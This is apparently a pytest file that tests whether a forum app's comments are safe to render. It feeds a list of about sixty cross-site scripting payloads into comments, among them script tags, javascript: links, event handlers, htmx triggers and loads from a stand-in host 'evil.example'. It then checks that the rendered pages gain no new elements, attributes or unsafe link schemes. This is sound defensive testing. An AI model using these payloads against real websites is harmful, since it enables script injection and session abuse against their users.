"""Whatever somebody writes into a comment, it runs nowhere: neither on the page nor in a part nor for the staff."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from postways.db import db
from postways.models import Comment
from postways.posts import talk
from tests.cast import make_comment, make_post

SCHEME = re.compile(r"\s*([a-z][a-z0-9+.-]*)\s*:", re.IGNORECASE)
HANDLERS = "onerror onload onclick onfocus onmouseover ontoggle onpointerenter onanimationstart".split()
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<p hx-get='/logout/' hx-trigger=load>x</p>",
    "<p data-hx-post='/logout/' hx-trigger=load>x</p>",
    "<p hx-on:load='alert(1)'>x</p>",
    "<hx-partial hx-target=body>gone</hx-partial>",
    "<p id=live hx-sse:connect=//evil.example>x</p>",
    "<p id=notice>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    '[x](//evil.example/"onmouseover=alert(1))',
    "[x](https://example.org/ \"' onmouseover=alert(1) x='\")",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover=alert(1)>',
    'https://example.org/"onmouseover=alert(1)//',
    "https://example.org/'><img src=x onerror=alert(1)>",
    '#tag"onmouseover=alert(1)',
    '@ada"onmouseover=alert(1)',
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>\u2029",
    "{{ 7 * 7 }}{% for x in y %}",
    "data: x\n\nevent: evil\ndata: <script>alert(1)</script>\n\n",
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
]


class Elements(HTMLParser):
    """Every element with its attributes, as a browser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def shape(html: str) -> tuple[set[str], set[str]]:
    """The elements and the attributes that the page has, without those of people's words."""
    found = Elements(html).found
    return {tag for tag, _ in found}, {name for _, attributes in found for name in attributes}


def test_there_are_sixty():
    assert len(PAYLOADS) >= 60


def test_no_comment_brings_an_element_or_an_attribute_of_its_own(app, ada, ben, as_ada, as_ben, as_mod):
    post = make_post(app, ada)
    top = make_comment(app, post, ada, "*plain* **words** `code` > quote\n\n> q\n\n- one\n\nhttps://example.org/ #tag")
    pages = {
        "page": (as_ben, f"/posts/{post.id}/?comment={top.id}", {}),
        "part": (as_ben, f"/posts/{post.id}/?since=0", {"HX_Request": "true"}),
        "visitor's report": (as_ben, f"/report/?comment={top.id}", {}),
        "delete": (as_mod, f"/comments/{top.id}/delete/", {}),
        "edit": (as_ada, f"/comments/{top.id}/edit/", {}),
    }

    def read() -> dict[str, str]:
        talk.forget()
        return {name: browser.get(path, **headers).text for name, (browser, path, headers) in pages.items()}

    plain = {name: shape(text) for name, text in read().items()}
    words = {"p", "br", "em", "strong", "a", "ul", "ol", "li", "blockquote", "code", "pre", "s"}
    for payload in PAYLOADS:
        with app.app_context():
            db.session.get(Comment, top.id).body = payload.strip()
            db.session.commit()
        for name, text in read().items():
            elements, attributes = shape(text)
            assert elements <= plain[name][0] | words, (payload, name)
            assert attributes <= plain[name][1] | {"href", "class", "rel", "title"}, (payload, name)
            links = [attributes.get("href") or "/" for tag, attributes in Elements(text).found if tag == "a"]
            schemes = {found[1].lower() for link in links if (found := SCHEME.match(link))}
            assert schemes <= {"http", "https", "mailto"}, (payload, name)


@pytest.mark.parametrize("payload", PAYLOADS[-12:])
def test_the_door_takes_it_as_words(app, ada, as_ben, guest, payload):
    post = make_post(app, ada)

    assert as_ben.post(f"/posts/{post.id}/comments/", {"body": payload}).status_code == 303
    assert "alert(1)" not in " ".join(
        value or ""
        for _, attributes in Elements(guest.get(f"/posts/{post.id}/").text).found
        for value in attributes.values()
    ).replace("%22", "")
